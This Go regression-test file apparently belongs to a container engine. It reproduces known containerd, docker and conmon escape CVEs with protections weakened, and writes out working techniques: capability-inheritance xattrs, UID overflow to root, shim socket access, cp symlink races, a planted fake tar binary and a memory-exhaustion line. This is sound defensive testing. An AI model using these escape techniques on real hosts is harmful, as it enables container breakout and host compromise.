package escape

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"

	"github.com/gantryd/gantry/plugins/exec-native/weak"
	"github.com/gantryd/gantry/test/rig"
	"golang.org/x/sys/unix"
)

// engineClasses are those that an engine has and a runtime alone has not.
func engineClasses() []class {
	return []class{
		{
			name: "containerd CVE-2022-24769", attack: "capabilities are inheritable by default: a file of the image turns one into a right of any user",
			off: []weak.Protection{weak.NoInheritable}, engine: true, try: inheritByDefault,
		},
		{
			name: "containerd CVE-2024-40635 engine", attack: "a user's number beyond 32 bits comes round to root's, given to the engine",
			off: []weak.Protection{weak.IDRange}, engine: true, try: overflowRunUser,
		},
		{
			name: "containerd CVE-2020-15257 engine", attack: "a container with the host's network reaches the abstract socket of another one's shim",
			off: []weak.Protection{weak.PathSocket}, engine: true, try: reachShim,
		},
		{
			name: "docker CVE-2018-15664 out", attack: "a directory becomes a link to the host while cp looks and copies out",
			off: []weak.Protection{weak.CopyInside}, engine: true, try: copyOutLink,
		},
		{
			name: "docker CVE-2018-15664 in", attack: "a directory becomes a link to the host while cp looks and copies in",
			off: []weak.Protection{weak.CopyInside}, engine: true, try: copyInLink,
		},
		{
			name: "docker CVE-2019-14271", attack: "cp runs code of the container's with the rights of the engine",
			off: []weak.Protection{weak.OwnCode}, engine: true, try: codeInCopy,
		},
		{
			name: "conmon CVE-2022-1708", attack: "output without a line's end fills the memory of who keeps it",
			shim: "WEAKEN_LINE", engine: true, try: endlessLine,
		},
	}
}

// start starts an engine of the world's programs, with an image.
func (w *world) start() {
	w.t.Helper()
	w.t.Setenv("GANTRY_BIN", w.bin)
	e, err := rig.Start(rig.Options{})
	w.must(err)
	w.engine = e
	w.t.Cleanup(func() {
		if w.t.Failed() {
			w.t.Log(e.Account())
		}
		if err := e.Close(); err != nil {
			w.t.Errorf("take the engine away: %v", err)
		}
	})
	image := filepath.Join(shop.dir, "busybox.tar")
	if _, err := os.Stat(image); err != nil {
		made, err := rig.BusyboxArchive(shop.dir)
		w.must(err)
		image = made
	}
	w.gantry("load", "-i", image)
}

// try runs a command of gantry.
func (w *world) try(args ...string) (string, error) {
	w.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*patience)
	defer cancel()
	out, err := w.engine.CLI(ctx, args...).CombinedOutput()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		w.t.Fatal(err)
	}
	return string(out), err
}

// gantry runs a command of gantry, which must not fail.
func (w *world) gantry(args ...string) string {
	w.t.Helper()
	out, err := w.try(args...)
	if err != nil {
		w.t.Fatalf("gantry %v: %v: %s", args, err, out)
	}
	return out
}

func inheritByDefault(w *world) bool {
	dir := w.path("volume")
	w.write(filepath.Join(dir, "mark"), secret)
	copyFile(w.t, "/bin/busybox", filepath.Join(dir, "cat"))
	w.must(unix.Setxattr(filepath.Join(dir, "cat"), "security.capability", inheritable(unix.CAP_DAC_OVERRIDE), 0))
	out, _ := w.try("run", "--rm", "-u", "1000:1000", "-v", dir+":/volume", "busybox", "/volume/cat", "/volume/mark")
	if !strings.Contains(out, secret) && !strings.Contains(out, "Permission denied") {
		w.t.Errorf("the reader: %s", out)
	}
	return strings.Contains(out, secret)
}

func overflowRunUser(w *world) bool {
	out, _ := w.try("run", "--rm", "-u", strconv.FormatInt(1<<32, 10), "busybox", "id", "-u")
	return strings.TrimSpace(out) == "0"
}

// reachShim counts on the engine's network namespace: it is of the test alone.
func reachShim(w *world) bool {
	dir := w.path("volume")
	shop.command(w.t, "gcc", "-static", "-O2", "-Wall", "-o", filepath.Join(dir, "knock"), "test/escape/testdata/knock.c")
	w.gantry("run", "-d", "--name", "victim", "busybox", "sleep", "300")
	w.gantry("run", "-d", "--name", "attacker", "--network", "host", "-v", dir+":/volume", "busybox", "sh", "-c", "/volume/knock '' >/volume/said; touch /volume/done")
	w.await("the attacker has tried", func() bool { _, err := os.Stat(filepath.Join(dir, "done")); return err == nil })
	if !w.has(filepath.Join(dir, "said"), "tried") {
		w.t.Fatal("the attacker did not get to try")
	}
	return w.has(filepath.Join(dir, "said"), "said go to @")
}

// linked starts a container in which a directory that was seen has become a
// link to the host's.
func (w *world) linked() {
	w.t.Helper()
	w.gantry("run", "-d", "--name", "victim", "busybox", "sh", "-c", "mkdir /data; echo inside >/data/mark; sleep 300")
	w.await("the directory is there", func() bool { _, err := w.try("exec", "victim", "test", "-s", "/data/mark"); return err == nil })
	first := filepath.Join(w.dir, "first")
	w.gantry("cp", "victim:/data/mark", first)
	if !w.has(first, "inside") {
		w.t.Fatal("cp did not copy an ordinary file")
	}
	w.gantry("exec", "victim", "sh", "-c", "mv /data /old; ln -s "+w.path("host")+" /data")
}

func copyOutLink(w *world) bool {
	w.linked()
	out := filepath.Join(w.dir, "stolen")
	_, _ = w.try("cp", "victim:/data/mark", out)
	return w.has(out, secret)
}

func copyInLink(w *world) bool {
	w.linked()
	given := filepath.Join(w.dir, "mark")
	w.write(given, "overwritten")
	_, _ = w.try("cp", given, "victim:/data/mark")
	return w.has(w.mark, "overwritten")
}

func codeInCopy(w *world) bool {
	w.gantry("run", "-d", "--name", "victim", "busybox", "sh", "-c", `
for f in /bin/tar /bin/docker-tar /usr/bin/tar; do
	rm -f $f; mkdir -p ${f%/*}; printf '#!/bin/sh\necho ran >/owned\n' >$f; chmod 755 $f
done
echo root:x:0:0::/:/bin/sh >/etc/passwd
echo 'passwd: files' >/etc/nsswitch.conf
touch /ready
sleep 300`)
	w.await("the trap is set", func() bool { _, err := w.try("exec", "victim", "test", "-e", "/ready"); return err == nil })
	w.gantry("cp", "victim:/ready", filepath.Join(w.dir, "copied"))
	_, err := w.try("exec", "victim", "test", "-e", "/owned")
	return err == nil
}

func endlessLine(w *world) bool {
	const much = 32 << 10 // kB of what the program writes: 64 MiB
	w.gantry("run", "-d", "--name", "victim", "busybox", "sh", "-c", "head -c 67108864 /dev/zero; touch /done; sleep 300")
	w.await("the program has written", func() bool { _, err := w.try("exec", "victim", "test", "-e", "/done"); return err == nil })
	var most int64
	for _, pid := range w.engine.ShimPids() {
		most = max(most, peakOf(pid))
	}
	if most == 0 {
		w.t.Fatal("no shim is there to be looked at")
	}
	return most > much
}

// peakOf is the most memory that a process has had, in kB.
func peakOf(pid int) int64 {
	text, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return 0
	}
	_, rest, _ := strings.Cut(string(text), "VmHWM:")
	line, _, _ := strings.Cut(rest, "\n")
	n, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(line), "kB")), 10, 64)
	return n
}
